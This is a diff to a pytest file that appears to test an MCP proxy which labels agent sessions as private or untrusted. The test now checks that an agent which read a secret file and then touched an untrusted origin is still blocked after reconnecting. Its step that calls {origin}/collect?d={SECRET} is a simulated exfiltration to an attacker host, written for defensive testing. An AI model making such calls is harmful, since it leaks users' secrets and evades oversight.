@@ -153,14 +153,18 @@ async def test_the_leaking_fetch_is_asked_and_the_innocent_one_is_not(trifecta, 
     assert refused and refused[-1]["labels"] == ["private", "untrusted"], refused
 
 
-async def test_a_stateless_client_that_reconnects_keeps_its_labels(trifecta):
+@pytest.mark.parametrize("mode", ["2026-07-28", "legacy"])
+async def test_a_client_that_reconnects_over_http_keeps_its_labels(trifecta, mode):
+    """Over HTTP the labels belong to the token and the client's name: a new connection or a
+    new MCP session (a client re-initialises when its session ended) does not start clean."""
     world, origin = trifecta
     Attacker.asked.clear()
     asked, on_elicit = answering("decline")
-    async with connect(world, "http", "2026-07-28", "reconnecting-agent", on_elicit) as c:
+    name = f"reconnecting-agent-{mode}"
+    async with connect(world, "http", mode, name, on_elicit) as c:
         await c.call_tool("read_file", {"path": "/docs/secret.txt"})
         await c.call_tool("http", {"url": f"{origin}/weather"})
-    async with connect(world, "http", "2026-07-28", "reconnecting-agent", on_elicit) as c:
+    async with connect(world, "http", mode, name, on_elicit) as c:
         r = await c.call_tool("http", {"url": f"{origin}/collect?d={SECRET}"})
         assert r.is_error, text(r)
     assert len(asked) == 1
